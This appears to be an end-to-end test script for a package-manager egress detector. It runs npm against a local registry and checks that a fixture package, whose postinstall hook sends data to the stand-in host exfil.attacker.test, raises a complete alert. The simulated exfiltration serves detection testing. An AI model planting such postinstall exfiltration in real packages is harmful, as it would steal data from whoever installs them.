#!/bin/bash
# Connections are judged by the name that was looked up. A test DNS server
# (dnsmasq) maps registry.npmjs.org to 127.0.0.1, where a private verdaccio
# listens on port 4873, and exfil.attacker.test to 127.0.0.9; npm and its
# scripts use it through their own /etc/resolv.conf (in_resolver).
# (a) npm install from http://registry.npmjs.org:4873/: npm talks only to
#     its registry, by name: no pm-unexpected-egress alert (after a canary).
# (b) a registry package whose postinstall GETs http://exfil.attacker.test:
#     PORT/c?d=... with node's http module: alerted with the name, the
#     address it resolved to, the package and the script's node process.
#     npm's own connection to its registry in that session is not alerted.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/net.sh"

NS=127.0.0.77
REGISTRY=http://registry.npmjs.org:4873/
EXFIL_ADDR=127.0.0.9

verdaccio_install
verdaccio_start 127.0.0.1 4873
verdaccio_publish "$FIXTURES/npm/registry-plain"
verdaccio_publish "$FIXTURES/npm/exfil-http"
dnsmasq_start "$NS" registry.npmjs.org=127.0.0.1 "exfil.attacker.test=$EXFIL_ADDR"
resolver_check "$NS" registry.npmjs.org 127.0.0.1
resolver_check "$NS" exfil.attacker.test "$EXFIL_ADDR"
http_sink_start "$EXFIL_ADDR"
export DS_E2E_PORT=$SINK_PORT
canary_prepare
ds_start

step "(a) npm install from its registry, by name"
npm_install_registry --ns "$NS" "$T/quiet" "$REGISTRY" ds-e2e-registry-plain
require_file "$(installed "$T/quiet" ds-e2e-registry-plain index.js)" "npm did not install the package"
grep -q '"resolved": "http://registry.npmjs.org:4873/' "$T/quiet/package-lock.json" ||
	fail "npm did not fetch from $REGISTRY (see $T/quiet/package-lock.json)"
QUIET_PID=$NPM_PID
canary
assert_none "npm talking to its registry (registry.npmjs.org) was alerted" \
	rule.id=pm-unexpected-egress "depsentry.session.pid=$QUIET_PID"

step "(b) a postinstall sending data to exfil.attacker.test:$DS_E2E_PORT"
npm_install_registry --ns "$NS" "$T/proj" "$REGISTRY" ds-e2e-exfil-http
ran=$(installed "$T/proj" ds-e2e-exfil-http postinstall.ran)
require_file "$ran" "the postinstall did not run"
grep -q ' status 200$' "$ran" || fail "the exfiltration request failed: $(cat "$ran")"
grep -q ' GET /c?d=' "$(sink_log "$EXFIL_ADDR" "$DS_E2E_PORT")" ||
	fail "the HTTP server on $EXFIL_ADDR:$DS_E2E_PORT got no request"
a=$(wait_alert rule.id=pm-unexpected-egress "depsentry.session.pid=$NPM_PID" \
	destination.domain=exfil.attacker.test)
check_alert "$a" "the exfiltration alert is incomplete" \
	event.action=connect \
	--expr '"network" in f("event.category")' \
	"destination.ip=$EXFIL_ADDR" "destination.port=$DS_E2E_PORT" \
	source.ip? 'source.port>0' \
	--expr "'$EXFIL_ADDR' in f('related.ip')" \
	network.direction=egress network.transport=tcp network.type=ipv4 \
	depsentry.session.package_manager=npm \
	package.name=ds-e2e-exfil-http package.version=1.4.0 \
	process.name=node "process.pid!=$NPM_PID" 'process.command_line=node exfil.js'

EXFIL_PID=$NPM_PID
canary
assert_none "npm talking to its registry (registry.npmjs.org) was alerted in (b)" \
	rule.id=pm-unexpected-egress "depsentry.session.pid=$EXFIL_PID" \
	destination.port=4873

ds_finish
